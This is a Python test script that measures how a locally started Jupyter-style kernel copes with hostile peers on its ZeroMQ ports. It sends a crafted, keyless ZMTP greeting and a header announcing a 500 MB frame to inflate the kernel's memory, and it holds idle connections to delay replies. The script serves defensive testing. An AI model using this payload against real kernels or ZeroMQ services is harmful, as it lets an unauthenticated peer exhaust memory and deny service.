"""Measure what hostile peers on the ZeroMQ ports cost a kernel (issue #12).

1. Memory amplification: ROUNDS rounds of CONNS connections to the shell
   port, each sending a ZMTP greeting, a READY command and the header of a
   500 MB frame whose body never comes (103 bytes, no key needed). Prints the
   kernel's RSS before, at its peak, and 5 s after the last round; kills the
   kernel if its RSS passes 6 GB.
2. Accept blocking: IDLE silent connections on every port (every other one
   sends a greeting, then nothing), then jupyter_client's kernel_info round
   trip, timed.

Usage: /usr/bin/python3 kernel/testdata/hostile.py KERNEL [CONNS ROUNDS IDLE]
KERNEL is echokernel (go build -o /tmp/echokernel ./kernel/testdata/echokernel)
or gopar (run as "gopar kernel -f FILE").
"""
import json
import os
import socket
import struct
import subprocess
import sys
import tempfile
import time

from jupyter_client import BlockingKernelClient

binary = sys.argv[1]
conns, rounds, idle = (int(a) for a in (sys.argv[2:] + ["16", "3", "8"][len(sys.argv) - 2:]))
argv = [binary, "kernel", "-f"] if os.path.basename(binary).startswith("gopar") else [binary]
CAP_MB = 6000

greeting = bytearray(64)
greeting[0], greeting[9], greeting[10] = 0xFF, 0x7F, 3
greeting[12:16] = b"NULL"
greeting = bytes(greeting)
ready = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER"
attack = greeting + bytes([0x04, len(ready)]) + ready + b"\x02" + struct.pack(">Q", 500 << 20)


def rss_mb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) // 1024


def start_kernel():
    socks = [socket.socket() for _ in range(5)]
    for s in socks:
        s.bind(("127.0.0.1", 0))
    ports = [s.getsockname()[1] for s in socks]
    for s in socks:
        s.close()
    info = dict(transport="tcp", ip="127.0.0.1", shell_port=ports[0], control_port=ports[1],
                stdin_port=ports[2], hb_port=ports[3], iopub_port=ports[4], key="k",
                signature_scheme="hmac-sha256")
    path = os.path.join(tempfile.mkdtemp(), "kernel.json")
    with open(path, "w") as f:
        json.dump(info, f)
    p = subprocess.Popen(argv + [path], stderr=subprocess.DEVNULL)
    kc = BlockingKernelClient(connection_file=path)
    kc.load_connection_file()
    kc.start_channels()
    kc.wait_for_ready(timeout=60)
    kc.stop_channels()
    return p, path, ports


def amplification():
    p, _, ports = start_kernel()
    base = peak = rss_mb(p.pid)
    for _ in range(rounds):
        socks = []
        for _ in range(conns):
            s = socket.create_connection(("127.0.0.1", ports[0]))
            s.sendall(attack)
            socks.append(s)
        end = time.monotonic() + 2
        while time.monotonic() < end:
            peak = max(peak, rss_mb(p.pid))
            if peak > CAP_MB:
                p.kill()
                print("amplification: RSS %d MB before, over %d MB: killed the kernel" % (base, CAP_MB))
                return
            time.sleep(0.05)
        for s in socks:
            s.close()
    time.sleep(5)
    after = rss_mb(p.pid)
    p.kill()
    print("amplification (%d rounds of %d connections): RSS %d MB before, peak %d MB, %d MB 5 s after"
          % (rounds, conns, base, peak, after))


def accept_blocking():
    p, path, ports = start_kernel()
    held = []
    for port in ports:
        for i in range(idle):
            s = socket.create_connection(("127.0.0.1", port))
            if i % 2:
                s.sendall(greeting)
            held.append(s)
    kc = BlockingKernelClient(connection_file=path)
    kc.load_connection_file()
    t0 = time.monotonic()
    kc.start_channels()
    reply = kc.kernel_info(reply=True, timeout=300)
    print("accept blocking (%d idle connections on each port): kernel_info reply in %.2f s (%s)"
          % (idle, time.monotonic() - t0, reply["content"]["status"]))
    kc.stop_channels()
    p.kill()


amplification()
accept_blocking()
